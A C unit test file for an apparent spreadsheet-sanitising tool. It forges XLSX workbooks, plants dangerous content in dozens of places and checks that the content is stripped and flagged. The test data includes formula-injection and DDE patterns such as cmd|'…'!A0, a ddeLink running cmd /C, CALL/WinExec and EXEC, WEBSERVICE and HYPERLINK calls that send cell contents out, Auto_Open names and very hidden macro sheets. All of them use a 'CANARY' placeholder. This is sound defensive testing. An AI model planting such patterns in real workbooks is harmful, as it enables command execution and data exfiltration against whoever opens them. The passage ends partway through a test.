#include "fake_job.h"
#include "xlsx_forge.h"

#include <check.h>

#define X14_URI "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
#define CHART_POINT(v) "<c:ptCount val=\"1\"/><c:pt idx=\"0\"><c:v>" v "</c:v></c:pt>"

typedef struct Site {
    const char *name;
    ForgePlace place;
    const char *snippet; /* %s: the formula, escaped */
    const char *keeps;   /* must be in the output although the formula is bad */
} Site;

#define CONDITION(inner) \
    "<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" dxfId=\"0\" priority=\"1\">" inner \
    "</cfRule></conditionalFormatting>"
#define EXTENSION(uri, inner) "<extLst><ext uri=\"" uri "\">" inner "</ext></extLst>"

static const Site sites[] = {
    {"cell", FORGE_CELLS, "<c r=\"B2\"><f>%s</f><v>42</v></c>", "<v>42</v>"},
    {"cell, prefixed", FORGE_CELLS, "<q:c xmlns:q=\"" X_URI "\" r=\"B2\"><q:f>%s</q:f><q:v>42</q:v></q:c>",
     "<v>42</v>"},
    {"cell, strict", FORGE_CELLS,
     "<q:c xmlns:q=\"http://purl.oclc.org/ooxml/spreadsheetml/main\" r=\"B2\"><q:f>%s</q:f><q:v>42</q:v></q:c>",
     "<v>42</v>"},
    {"cell, split by comments and CDATA", FORGE_CELLS,
     "<c r=\"B2\"><f><!-- a -->%s<![CDATA[]]><!-- b --></f><v>42</v></c>", "<v>42</v>"},
    {"array", FORGE_CELLS, "<c r=\"B2\"><f t=\"array\" ref=\"B2\">%s</f><v>42</v></c>", "<v>42</v>"},
    {"shared", FORGE_CELLS,
     "<c r=\"B2\"><f t=\"shared\" ref=\"B2:D2\" si=\"0\">%s</f><v>42</v></c><c r=\"C2\"><f t=\"shared\" si=\"0\"/>"
     "<v>43</v></c><c r=\"D2\"><f t=\"shared\" si=\"0\"/><v>44</v></c>",
     "<v>44</v>"},
    {"data table", FORGE_CELLS,
     "<c r=\"B2\"><f t=\"dataTable\" ref=\"B2\" dt2D=\"0\" dtr=\"0\" r1=\"%s\"/><v>42</v></c>", "<v>42</v>"},
    {"data table text", FORGE_CELLS,
     "<c r=\"B2\"><f t=\"dataTable\" ref=\"B2\" dt2D=\"0\" dtr=\"0\" r1=\"A1\">%s</f><v>42</v></c>", "<v>42</v>"},
    {"in a hidden branch", FORGE_CELLS,
     "<mc:AlternateContent><mc:Choice Requires=\"x14\"><c r=\"B2\"><f>%s</f><v>42</v></c></mc:Choice><mc:Fallback>"
     "<c r=\"B2\"><f>%s</f><v>42</v></c></mc:Fallback></mc:AlternateContent>",
     "<v>42</v>"},
    {"name", FORGE_NAMES, "<definedName name=\"N\">%s</definedName>", "name=\"N\""},
    {"hidden local name", FORGE_NAMES, "<definedName name=\"N\" localSheetId=\"0\" hidden=\"1\">%s</definedName>",
     "name=\"N\""},
    {"print area", FORGE_NAMES, "<definedName name=\"_xlnm.Print_Area\" localSheetId=\"0\">%s</definedName>",
     "_xlnm.Print_Area"},
    {"condition", FORGE_AFTER, CONDITION("<formula>%s</formula>"), NULL},
    {"second condition", FORGE_AFTER, CONDITION("<formula>1</formula><formula>%s</formula>"), NULL},
    {"bound of a scale", FORGE_AFTER,
     "<conditionalFormatting sqref=\"A1\"><cfRule type=\"colorScale\" priority=\"1\"><colorScale><cfvo "
     "type=\"formula\" val=\"%s\"/><cfvo type=\"max\"/><color rgb=\"FFFFFFFF\"/><color rgb=\"FF000000\"/></colorScale>"
     "</cfRule></conditionalFormatting>",
     NULL},
    {"validation", FORGE_AFTER,
     "<dataValidations count=\"1\"><dataValidation type=\"list\" sqref=\"A1\"><formula1>%s</formula1></dataValidation>"
     "</dataValidations>",
     NULL},
    {"validation, second bound", FORGE_AFTER,
     "<dataValidations count=\"1\"><dataValidation type=\"whole\" sqref=\"A1\"><formula1>1</formula1><formula2>%s"
     "</formula2></dataValidation></dataValidations>",
     NULL},
    {"condition 2010", FORGE_EXT,
     EXTENSION("{78C0D931-6437-407d-A8EE-F0AAD7539E65}",
               "<x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule type=\"expression\" "
               "priority=\"1\" id=\"{00000000-0000-0000-0000-000000000001}\"><xm:f>%s</xm:f></x14:cfRule>"
               "<xm:sqref>A1</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings>"),
     NULL},
    {"bound of a data bar 2010", FORGE_EXT,
     EXTENSION("{78C0D931-6437-407d-A8EE-F0AAD7539E65}",
               "<x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule type=\"dataBar\" "
               "id=\"{00000000-0000-0000-0000-000000000001}\"><x14:dataBar><x14:cfvo type=\"formula\"><xm:f>%s</xm:f>"
               "</x14:cfvo><x14:cfvo type=\"autoMax\"/></x14:dataBar></x14:cfRule><xm:sqref>A1</xm:sqref>"
               "</x14:conditionalFormatting></x14:conditionalFormattings>"),
     NULL},
    {"place of a condition 2010", FORGE_EXT,
     EXTENSION("{78C0D931-6437-407d-A8EE-F0AAD7539E65}",
               "<x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule type=\"expression\" "
               "priority=\"1\" id=\"{00000000-0000-0000-0000-000000000001}\"><xm:f>A1=1</xm:f></x14:cfRule>"
               "<xm:sqref>%s</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings>"),
     NULL},
    {"validation 2010", FORGE_EXT,
     EXTENSION("{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}",
               "<x14:dataValidations count=\"1\"><x14:dataValidation type=\"list\"><x14:formula1><xm:f>%s</xm:f>"
               "</x14:formula1><xm:sqref>A1</xm:sqref></x14:dataValidation></x14:dataValidations>"),
     NULL},
    {"sparkline", FORGE_EXT,
     EXTENSION("{05C60535-1F16-4fd2-B633-F4F36F0B64E0}",
               "<x14:sparklineGroups><x14:sparklineGroup><x14:sparklines><x14:sparkline><xm:f>%s</xm:f><xm:sqref>C2"
               "</xm:sqref></x14:sparkline></x14:sparklines></x14:sparklineGroup></x14:sparklineGroups>"),
     NULL},
    {"dates of sparklines", FORGE_EXT,
     EXTENSION("{05C60535-1F16-4fd2-B633-F4F36F0B64E0}",
               "<x14:sparklineGroups><x14:sparklineGroup dateAxis=\"1\"><xm:f>%s</xm:f><x14:sparklines>"
               "<x14:sparkline><xm:f>Data!A1:B1</xm:f><xm:sqref>C2</xm:sqref></x14:sparkline></x14:sparklines>"
               "</x14:sparklineGroup></x14:sparklineGroups>"),
     NULL},
    {"unknown extension", FORGE_EXT, EXTENSION("{00000000-0000-0000-0000-000000000000}", "<f>%s</f>"), NULL},
    {"column of a table", FORGE_COLUMN, "<calculatedColumnFormula>%s</calculatedColumnFormula>", "name=\"Sum\""},
    {"totals row", FORGE_COLUMN, "<totalsRowFormula>%s</totalsRowFormula>", "<totalsRowFormula>#REF!"},
    {"calculated field", FORGE_PIVOT_FIELD, "formula=\"%s\" databaseField=\"0\"", "formula=\"0\""},
    {"calculated item", FORGE_PIVOT_ITEMS,
     "<calculatedItems count=\"1\"><calculatedItem field=\"0\" formula=\"%s\"><pivotArea/></calculatedItem>"
     "</calculatedItems>",
     NULL},
    {"title of a chart", FORGE_CHART_TITLE,
     "<c:title><c:tx><c:strRef><c:f>%s</c:f><c:strCache>" CHART_POINT(
         "Title") "</c:strCache></c:strRef></c:tx></c:title>",
     "<a:t>Title</a:t>"},
    {"name of a series", FORGE_CHART_NAME,
     "<c:tx><c:strRef><c:f>%s</c:f><c:strCache>" CHART_POINT("Series") "</c:strCache></c:strRef></c:tx>",
     "<c:tx><c:v>Series</c:v></c:tx>"},
    {"categories", FORGE_CHART_CATEGORY,
     "<c:cat><c:strRef><c:f>%s</c:f><c:strCache>" CHART_POINT("Cat") "</c:strCache></c:strRef></c:cat>",
     "<c:cat><c:strLit><c:ptCount val=\"1\"/><c:pt idx=\"0\"><c:v>Cat</c:v></c:pt></c:strLit></c:cat>"},
    {"levels of categories", FORGE_CHART_CATEGORY,
     "<c:cat><c:multiLvlStrRef><c:f>%s</c:f><c:multiLvlStrCache><c:ptCount val=\"1\"/><c:lvl><c:pt idx=\"0\"><c:v>One"
     "</c:v></c:pt></c:lvl><c:lvl><c:pt idx=\"0\"><c:v>Two</c:v></c:pt></c:lvl></c:multiLvlStrCache>"
     "</c:multiLvlStrRef></c:cat>",
     "<c:cat><c:strLit><c:ptCount val=\"1\"/><c:pt idx=\"0\"><c:v>One</c:v></c:pt></c:strLit></c:cat>"},
    {"values of a series", FORGE_CHART_VALUE,
     "<c:val><c:numRef><c:f>%s</c:f><c:numCache><c:formatCode>General</c:formatCode>" CHART_POINT(
         "99") "</c:numCache></c:numRef></c:val>",
     "<c:val><c:numLit><c:formatCode>General</c:formatCode><c:ptCount val=\"1\"/><c:pt idx=\"0\"><c:v>99</c:v></c:pt>"
     "</c:numLit></c:val>"},
    {"text of a shape", FORGE_SHAPE, "textlink=\"%s\"", "name=\"s\""},
    {"text of a shape in a chart", FORGE_USER_SHAPE, "textlink=\"%s\"", "name=\"s\""},
};

typedef struct Attack {
    const char *formula;
    MgkKind kind;
} Attack;

static const Attack attacks[] = {
    {"CALL(\"CANARY\",\"WinExec\")", MGK_KIND_FORMULA_DANGEROUS},
    {"+1+call (\"CANARY\")", MGK_KIND_FORMULA_DANGEROUS},
    {"ＣＡＬＬ(\"CANARY\")", MGK_KIND_FORMULA_DANGEROUS},
    {"REGISTER.ID(\"CANARY\",\"x\")", MGK_KIND_FORMULA_DANGEROUS},
    {"EXEC(\"CANARY\")", MGK_KIND_FORMULA_DANGEROUS},
    {"EVALUATE(\"CANARY\")", MGK_KIND_FORMULA_DANGEROUS},
    {"RTD(\"CANARY\",,\"x\")", MGK_KIND_FORMULA_DANGEROUS},
    {"_xlfn.WEBSERVICE(\"http://CANARY/\"&A1)", MGK_KIND_FORMULA_DANGEROUS},
    {"_xlfn.FILTERXML(A1,\"CANARY\")", MGK_KIND_FORMULA_DANGEROUS},
    {"_xlfn.IMAGE(\"http://CANARY/\")", MGK_KIND_FORMULA_DANGEROUS},
    {"_xlfn.STOCKHISTORY(\"CANARY\",1)", MGK_KIND_FORMULA_DANGEROUS},
    {"_xlfn._xlws.PY(0,\"CANARY\")", MGK_KIND_FORMULA_DANGEROUS},
    {"CUBEVALUE(\"CANARY\",\"x\")", MGK_KIND_FORMULA_DANGEROUS},
    {"SQL.REQUEST(\"CANARY\")", MGK_KIND_FORMULA_DANGEROUS},
    {"cmd|'CANARY'!A0", MGK_KIND_FORMULA_DANGEROUS},
    {"HYPERLINK(\"http://CANARY/?\"&A1,\"x\")", MGK_KIND_FORMULA_LINK},
    {"HYPERLINK(\"file://CANARY/x.exe\",\"x\")", MGK_KIND_FORMULA_LINK},
    {"CanaryVba(\"CANARY\")", MGK_KIND_FORMULA_UNKNOWN},
    {"_xll.BDP(\"CANARY\")", MGK_KIND_FORMULA_UNKNOWN},
    {"[1]CANARY!A1", MGK_KIND_FORMULA_EXTERNAL},
    {"'[2]CANARY x'!$A$1:$B$2", MGK_KIND_FORMULA_EXTERNAL},
    {"[3]!CANARY", MGK_KIND_FORMULA_EXTERNAL},
    {"'\\\\CANARY\\share\\[b.xls]S'!A1", MGK_KIND_FORMULA_EXTERNAL},
};

/* Whole constructions, planted with the parts they need. */
typedef struct Plant {
    const char *name;
    const char *snippets[FORGE_PLACES];
    ForgePart extra[3];
    MgkKind kind; /* MGK_N_KINDS: no finding */
    const char *keeps;
} Plant;

#define BOOK_REL(type, target) "<Relationship Id=\"rId9\" Type=\"" type "\" Target=\"" target "\"/>"
#define MACRO_SHEET_REL "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
#define MACRO_SHEET_XML \
    "<xm:macrosheet xmlns=\"" X_URI "\" xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData>" \
    "<row r=\"1\"><c r=\"A1\" t=\"str\"><f>EXEC(\"CANARY\")</f><v>CANARY</v></c></row></sheetData></xm:macrosheet>"
#define LINK_TYPE OVERRIDE("/xl/externalLinks/externalLink1.xml", SML_TYPE "externalLink+xml")
#define LINK_BOOK "<externalReferences><externalReference r:id=\"rId9\"/></externalReferences>"
#define LINK_REL BOOK_REL(ODR_URI "externalLink", "externalLinks/externalLink1.xml")

static const Plant plants[] = {
    {"macro sheet",
     {[FORGE_SHEETS] = "<sheet name=\"Macro1\" sheetId=\"2\" state=\"veryHidden\" r:id=\"rId9\"/>",
      [FORGE_BOOK_RELS] = BOOK_REL(MACRO_SHEET_REL, "macrosheets/sheet1.xml"),
      [FORGE_TYPES] = OVERRIDE("/xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")},
     {{"xl/macrosheets/sheet1.xml", MACRO_SHEET_XML}},
     MGK_KIND_MACRO_SHEET,
     "name=\"Macro1\""},
    {"macro sheet called a worksheet",
     {[FORGE_SHEETS] = "<sheet name=\"Macro1\" sheetId=\"2\" r:id=\"rId9\"/>",
      [FORGE_BOOK_RELS] = BOOK_REL(ODR_URI "worksheet", "macrosheets/sheet1.xml"),
      [FORGE_TYPES] = OVERRIDE("/xl/macrosheets/sheet1.xml", SML_TYPE "worksheet+xml")},
     {{"xl/macrosheets/sheet1.xml", MACRO_SHEET_XML}},
     MGK_KIND_MACRO_SHEET,
     "name=\"Macro1\""},
    {"dialog sheet",
     {[FORGE_SHEETS] = "<sheet name=\"Dialog1\" sheetId=\"2\" r:id=\"rId9\"/>",
      [FORGE_BOOK_RELS] = BOOK_REL(ODR_URI "dialogsheet", "dialogsheets/sheet1.xml"),
      [FORGE_TYPES] = OVERRIDE("/xl/dialogsheets/sheet1.xml", SML_TYPE "dialogsheet+xml")},
     {{"xl/dialogsheets/sheet1.xml", "<dialogsheet xmlns=\"" X_URI "\"><sheetPr codeName=\"CANARY\"/></dialogsheet>"}},
     MGK_KIND_MACRO_SHEET,
     "name=\"Dialog1\""},
    {"Auto_Open",
     {[FORGE_NAMES] = "<definedName name=\"Auto_Open\">CANARY!$A$1</definedName>"},
     {{NULL}},
     MGK_KIND_MACRO_NAME,
     NULL},
    {"auto_open with a tail",
     {[FORGE_NAMES] = "<definedName name=\"aUTO_oPEN2CANARY\">Data!$A$1</definedName>"},
     {{NULL}},
     MGK_KIND_MACRO_NAME,
     NULL},
    {"built-in Auto_Close",
     {[FORGE_NAMES] = "<definedName name=\"_xlnm.Auto_Close\">CANARY!$A$1</definedName>"},
     {{NULL}},
     MGK_KIND_MACRO_NAME,
     NULL},
    {"name of a macro",
     {[FORGE_NAMES] = "<definedName xlm=\"1\" name=\"CANARY\">Data!$A$1</definedName>"},
     {{NULL}},
     MGK_KIND_MACRO_NAME,
     NULL},
    {"name of a function",
     {[FORGE_NAMES] = "<definedName name=\"CANARY\" function=\"true\">Data!$A$1</definedName>"},
     {{NULL}},
     MGK_KIND_MACRO_NAME,
     NULL},
    {"name of a procedure",
     {[FORGE_NAMES] = "<definedName name=\"CANARY\" vbProcedure=\"1\">0</definedName>"},
     {{NULL}},
     MGK_KIND_MACRO_NAME,
     NULL},
    {"formula over a name that goes",
     {[FORGE_NAMES] = "<definedName name=\"Away\">[1]CANARY!$A$1</definedName><definedName name=\"Chain\">Away*2"
                      "</definedName>",
      [FORGE_CELLS] = "<c r=\"B2\"><f>chain+0*LEN(\"CANARY\")</f><v>42</v></c>"},
     {{NULL}},
     MGK_KIND_FORMULA_EXTERNAL,
     "<c r=\"B2\"><v>42</v></c>"},
    {"external workbook",
     {[FORGE_BOOK] = LINK_BOOK, [FORGE_BOOK_RELS] = LINK_REL, [FORGE_TYPES] = LINK_TYPE},
     {{"xl/externalLinks/externalLink1.xml",
       "<externalLink xmlns=\"" X_URI "\"><externalBook xmlns:r=\"" R_URI
       "\" r:id=\"rId1\"><sheetNames><sheetName val=\"CANARY\"/></sheetNames></externalBook></externalLink>"},
      {"xl/externalLinks/_rels/externalLink1.xml.rels",
       RELS("<Relationship Id=\"rId1\" Type=\"" ODR_URI
            "externalLinkPath\" Target=\"file://CANARY/b.xlsx\" TargetMode=\"External\"/>")}},
     MGK_KIND_FORMULA_EXTERNAL,
     NULL},
    {"DDE link",
     {[FORGE_BOOK] = LINK_BOOK,
      [FORGE_BOOK_RELS] = LINK_REL,
      [FORGE_TYPES] = LINK_TYPE,
      [FORGE_CELLS] = "<c r=\"B2\"><f>[1]!'CANARY A0'</f><v>42</v></c>"},
     {{"xl/externalLinks/externalLink1.xml",
       "<externalLink xmlns=\"" X_URI "\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/C CANARY\"/></externalLink>"}},
     MGK_KIND_FORMULA_DANGEROUS,
     "<v>42</v>"},
    {"OLE link",
     {[FORGE_BOOK] = LINK_BOOK, [FORGE_BOOK_RELS] = LINK_REL, [FORGE_TYPES] = LINK_TYPE},
     {{"xl/externalLinks/externalLink1.xml", "<externalLink xmlns=\"" X_URI "\" xmlns:r=\"" R_URI
                                             "\"><oleLink r:id=\"rId1\" progId=\"CANARY\"/></externalLink>"}},
     MGK_KIND_FORMULA_DANGEROUS,
     NULL},
    {"macros",
     {[FORGE_BOOK_RELS] =
          BOOK_REL("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"),
      [FORGE_TYPES] = OVERRIDE("/xl/vbaProject.bin", "application/vnd.ms-office.vbaProject")},
     {{"xl/vbaProject.bin", "CANARY"}},
     MGK_KIND_MACRO_VBA,
     NULL},
    {"connections",
     {[FORGE_BOOK_RELS] = BOOK_REL(ODR_URI "connections", "connections.xml"),
      [FORGE_TYPES] = OVERRIDE("/xl/connections.xml", SML_TYPE "connections+xml")},
     {{"xl/connections.xml", "<connections xmlns=\"" X_URI "\"><connection id=\"1\" name=\"CANARY\"/></connections>"}},
     MGK_KIND_EXTERNAL_DATA,
     NULL},
    {"volatile dependencies",
     {[FORGE_BOOK_RELS] = BOOK_REL(ODR_URI "volatileDependencies", "volatileDependencies.xml"),
      [FORGE_TYPES] = OVERRIDE("/xl/volatileDependencies.xml", SML_TYPE "volatileDependencies+xml")},
     {{"xl/volatileDependencies.xml", "<volTypes xmlns=\"" X_URI "\"><volType type=\"realTimeData\">"
                                      "<main first=\"CANARY\"/></volType></volTypes>"}},
     MGK_KIND_FORMULA_DANGEROUS,
     NULL},
    {"calculation chain",
     {[FORGE_BOOK_RELS] = BOOK_REL(ODR_URI "calcChain", "calcChain.xml"),
      [FORGE_TYPES] = OVERRIDE("/xl/calcChain.xml", SML_TYPE "calcChain+xml")},
     {{"xl/calcChain.xml", "<calcChain xmlns=\"" X_URI "\"><c r=\"CANARY\" i=\"1\"/></calcChain>"}},
     MGK_N_KINDS,
     NULL},
    {"rich values",
     {[FORGE_BOOK_RELS] = BOOK_REL(ODR_URI "sheetMetadata", "metadata.xml"),
      [FORGE_TYPES] = OVERRIDE("/xl/metadata.xml", SML_TYPE "sheetMetadata+xml"),
      [FORGE_CELLS] = "<c r=\"B2\" cm=\"1\" vm=\"1\"><v>42</v></c>"},
     {{"xl/metadata.xml",
       "<metadata xmlns=\"" X_URI "\"><metadataTypes count=\"1\"><metadataType name=\"XLRICHVALUE\"/>"
       "</metadataTypes><futureMetadata name=\"CANARY\"/></metadata>"}},
     MGK_N_KINDS,
     "<c r=\"B2\"><v>42</v></c>"},
    {"pivot over a connection",
     {[FORGE_PIVOT_SOURCE] = "<cacheSource type=\"external\" connectionId=\"77\"><extLst><ext uri=\"CANARY\"/></extLst>"
                             "</cacheSource>"},
     {{NULL}},
     MGK_KIND_PIVOT_EXTERNAL,
     "<worksheetSource name=\"source_removed\"/>"},
    {"pivot over another workbook",
     {[FORGE_PIVOT_SOURCE] = "<cacheSource type=\"worksheet\"><worksheetSource r:id=\"rId7\" ref=\"A1:B2\" "
                             "sheet=\"CANARY\"/></cacheSource>"},
     {{NULL}},
     MGK_KIND_PIVOT_EXTERNAL,
     "name=\"source_removed\""},
    {"pivot over a cube",
     {[FORGE_PIVOT_ITEMS] = "<cacheHierarchies count=\"1\"><cacheHierarchy uniqueName=\"CANARY\"/></cacheHierarchies>"},
     {{NULL}},
     MGK_KIND_PIVOT_EXTERNAL,
     NULL},
    {"shape that starts a macro",
     {[FORGE_SHAPE] = "macro=\"[0]!CANARY\" textlink=\"\""},
     {{NULL}},
     MGK_KIND_MACRO_SHAPE,
     "name=\"s\""},
    {"shape in a chart that starts a macro",
     {[FORGE_USER_SHAPE] = "macro=\"CANARY\" textlink=\"\""},
     {{NULL}},
     MGK_KIND_MACRO_SHAPE,
     "name=\"s\""},
    {"button",
     {[FORGE_VML] = "<v:shape id=\"b\" type=\"#t\"><v:textbox>CANARY</v:textbox><x:ClientData "
                    "ObjectType=\"Button\"><x:FmlaMacro>CANARY</x:FmlaMacro></x:ClientData></v:shape>"},
     {{NULL}},
     MGK_N_KINDS,
     "ObjectType=\"Note\""},
    {"check box",
     {[FORGE_VML] =
          "<v:shape id=\"Check_x0020_Box_x0020_1\" o:spid=\"_x0000_s1030\" type=\"#t\"><x:ClientData "
          "ObjectType=\"Checkbox\"><x:FmlaLink>[1]CANARY!A1</x:FmlaLink><x:Checked>1</x:Checked></x:ClientData>"
          "</v:shape>"},
     {{"xl/drawings/drawing1.xml",
       "<xdr:wsDr" XDR_NS DML_NS " xmlns:a14=\"http://schemas.microsoft.com/office/drawing/2010/main\">"
       "<xdr:twoCellAnchor>" ANCHOR "<xdr:sp macro=\"CANARY\" textlink=\"\"><xdr:nvSpPr><xdr:cNvPr id=\"1030\" "
       "name=\"Check Box 1\" hidden=\"1\"><a:extLst><a:ext uri=\"{63B3BB69-23CF-44E3-9099-C40C66FF867C}\">"
       "<a14:compatExt spid=\"_x0000_s1030\"/></a:ext></a:extLst></xdr:cNvPr><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr>"
       "<a:prstGeom prst=\"rect\"><a:avLst/></a:prstGeom></xdr:spPr><xdr:txBody><a:bodyPr/><a:p><a:r><a:t>同意する"
       "</a:t></a:r></a:p></xdr:txBody></xdr:sp><xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>"}},
     MGK_KIND_MACRO_SHAPE,
     "name=\"Check Box 1\"><a:extLst/></xdr:cNvPr><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr><a:prstGeom prst=\"rect\">"
     "<a:avLst/></a:prstGeom></xdr:spPr><xdr:txBody><a:bodyPr/><a:p><a:r><a:t>☑ 同意する</a:t>"},
    {"people behind comments",
     {[FORGE_BOOK_RELS] =
          BOOK_REL("http://schemas.microsoft.com/office/2017/10/relationships/person", "persons/person.xml"),
      [FORGE_TYPES] = OVERRIDE("/xl/persons/person.xml", "application/vnd.ms-excel.person+xml")},
     {{"xl/persons/person.xml",
       "<personList xmlns=\"http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments\"><person "
       "displayName=\"山田\" id=\"{00000000-0000-0000-0000-000000000001}\" userId=\"S::CANARY@example.jp\" "
       "providerId=\"CANARY\"/></personList>"}},
     MGK_N_KINDS,
     "displayName=\"山田\""},
    {"frame of a slicer",
     {[FORGE_SHAPE] = "macro=\"\" textlink=\"\""},
     {{"xl/drawings/drawing1.xml",
       "<xdr:wsDr" XDR_NS DML_NS "><xdr:twoCellAnchor>" ANCHOR
       "<xdr:graphicFrame macro=\"\"><xdr:nvGraphicFramePr><xdr:cNvPr id=\"2\" name=\"CANARY\"/>"
       "<xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr><xdr:xfrm><a:off x=\"0\" y=\"0\"/><a:ext cx=\"0\" cy=\"0\"/>"
       "</xdr:xfrm><a:graphic><a:graphicData uri=\"http://schemas.microsoft.com/office/drawing/2010/slicer\"><s:slicer "
       "xmlns:s=\"http://schemas.microsoft.com/office/drawing/2010/slicer\" "
       "name=\"CANARY\"/></a:graphicData></a:graphic>"
       "</xdr:graphicFrame><xdr:clientData/></xdr:twoCellAnchor><xdr:twoCellAnchor>" ANCHOR
       "<xdr:sp>" SHAPE_BODY("xdr") "</xdr:sp><xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>"}},
     MGK_N_KINDS,
     "</xdr:sp><xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>"},
    {"object with a hidden twin",
     {[FORGE_VML] = "<v:shape id=\"_x0000_s1031\" type=\"#t\"><x:ClientData ObjectType=\"Pict\"><x:DDE/>"
                    "<x:FmlaPict>CANARY</x:FmlaPict></x:ClientData></v:shape>"},
     {{"xl/drawings/drawing1.xml",
       "<xdr:wsDr" XDR_NS DML_NS " xmlns:a14=\"http://schemas.microsoft.com/office/drawing/2010/main\">"
       "<xdr:twoCellAnchor>" ANCHOR "<xdr:sp><xdr:nvSpPr><xdr:cNvPr id=\"1031\" name=\"Object 7\" hidden=\"1\">"
       "<a:extLst><a:ext uri=\"{63B3BB69-23CF-44E3-9099-C40C66FF867C}\"><a14:compatExt spid=\"_x0000_s1031\"/></a:ext>"
       "</a:extLst></xdr:cNvPr><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr/></xdr:sp><xdr:clientData/></xdr:twoCellAnchor>"
       "</xdr:wsDr>"}},
     MGK_N_KINDS,
     "<a:t>Object 7：安全のため取り除きました</a:t>"},
    {"macro of a note",
     {[FORGE_VML] = "<v:shape id=\"b\" type=\"#t\"><x:ClientData ObjectType=\"Note\"><x:FmlaMacro>"
                    "CANARY</x:FmlaMacro></x:ClientData></v:shape>"},
     {{NULL}},
     MGK_N_KINDS,
     NULL},
    {"place in another workbook",
     {[FORGE_LINKS] = "<hyperlinks><hyperlink ref=\"A1\" location=\"[1]CANARY!A1\"/>"
                      "</hyperlinks>"},
     {{NULL}},
     MGK_KIND_LINK_DANGEROUS,
     NULL},
    {"place on a server",
     {[FORGE_LINKS] = "<hyperlinks><hyperlink ref=\"A1\" location=\"\\\\CANARY\\x\"/>"
                      "</hyperlinks>"},
     {{NULL}},
     MGK_KIND_LINK_DANGEROUS,
     NULL},
    {"link without its relationship",
     {[FORGE_LINKS] = "<hyperlinks><hyperlink ref=\"A1\" r:id=\"rId77\" "
                      "display=\"CANARY\"/></hyperlinks>"},
     {{NULL}},
     MGK_N_KINDS,
     NULL},
    {"objects and controls",
     {[FORGE_EXT] =
          "<oleObjects><oleObject progId=\"CANARY\" shapeId=\"1\"/></oleObjects><controls><control "
          "shapeId=\"2\" r:id=\"rId77\" name=\"CANARY\"/></controls><webPublishItems count=\"1\"><webPublishItem "
          "id=\"1\" divId=\"CANARY\" sourceType=\"sheet\" destinationFile=\"CANARY\"/></webPublishItems>"},
     {{NULL}},
     MGK_N_KINDS,
     NULL},
    {"publishing, sharing",
     {[FORGE_BOOK] = "<smartTagPr show=\"CANARY\"/><webPublishing vml=\"CANARY\"/>"},
     {{NULL}},
     MGK_N_KINDS,
     NULL},
};

typedef struct Cleaned {
    FakeRun *run;
    gboolean ok;
    char *error; /* owned */
    char *text;  /* owned; all parts */
} Cleaned;

static Cleaned clean(const char *const snippets[FORGE_PLACES], const ForgePart *extra)
{
    Cleaned cleaned = {.run = fake_run_new()};
    g_autoptr(GByteArray) book = forge_workbook(snippets, extra);
    g_autoptr(GError) error = NULL;
    cleaned.ok = fake_run_clean(cleaned.run, book->data, book->len, "a.xlsx", MGK_FORMAT_ID_NONE, &error) &&
                 mgk_verdict_crosses(cleaned.run->outcome.verdict);
    cleaned.error = g_strdup(error ? error->message : cleaned.run->outcome.detail);
    cleaned.text = cleaned.ok
                       ? forge_open(cleaned.run->output->data, cleaned.run->output->len, &cleaned.run->policy.limits)
                       : g_strdup("");
    return cleaned;
}

static void cleaned_clear(Cleaned *cleaned)
{
    fake_run_free(cleaned->run);
    g_free(cleaned->error);
    g_free(cleaned->text);
}
G_DEFINE_AUTO_CLEANUP_CLEAR_FUNC(Cleaned, cleaned_clear)

/* The snippet with every %s replaced by the escaped formula. */
static char *plant(const char *snippet, const char *formula)
{
    g_autofree char *escaped = g_markup_escape_text(formula, -1);
    g_auto(GStrv) pieces = g_strsplit(snippet, "%s", -1);
    return g_strjoinv(escaped, pieces);
}

START_TEST(test_xlsx__no_attack_crosses_from_any_site)
{
    const Site *site = &sites[_i];
    for (gsize a = 0; a < G_N_ELEMENTS(attacks); a++) {
        const char *snippets[FORGE_PLACES] = {NULL};
        g_autofree char *snippet = plant(site->snippet, attacks[a].formula);
        snippets[site->place] = snippet;
        g_auto(Cleaned) got = clean(snippets, NULL);
        ck_assert_msg(got.ok, "%s, %s: not crossed: %s", site->name, attacks[a].formula, got.error);
        ck_assert_msg(!strstr(got.text, "CANARY"), "%s, %s: crossed: %s", site->name, attacks[a].formula,
                      strstr(got.text, "CANARY"));
        ck_assert_msg(!site->keeps || strstr(got.text, site->keeps), "%s, %s: lost %s in %s", site->name,
                      attacks[a].formula, site->keeps, got.text);
        ck_assert_msg(strcmp(site->name, "unknown extension") == 0 || fake_run_found(got.run, attacks[a].kind),
                      "%s, %s: no finding", site->name, attacks[a].formula);
        ck_assert_msg(strstr(got.text, "<v>7</v>"), "%s: the other cell is lost", site->name);
    }
}
END_TEST

START_TEST(test_xlsx__no_construction_crosses)
{
    const Plant *plant = &plants[_i];
    g_auto(Cleaned) got = clean(plant->snippets, plant->extra);
    ck_assert_msg(got.ok, "%s: not crossed: %s", plant->name, got.error);
    ck_assert_msg(!strstr(got.text, "CANARY"), "%s: crossed: %s", plant->name, strstr(got.text, "CANARY"));
    ck_assert_msg(!plant->keeps || strstr(got.text, plant->keeps), "%s: lost %s in %s", plant->name, plant->keeps,
                  got.text);
    ck_assert_msg(plant->kind == MGK_N_KINDS || fake_run_found(got.run, plant->kind), "%s: no finding", plant->name);
    ck_assert_msg(strstr(got.text, "<v>7</v>"), "%s: the other cell is lost", plant->name);
}
END_TEST

START_TEST(test_xlsx__ordinary_formulas_stay_in_every_site)
{
    const Site *site = &sites[_i];
    static const char formula[] = "Data!$A$2:$A$3";
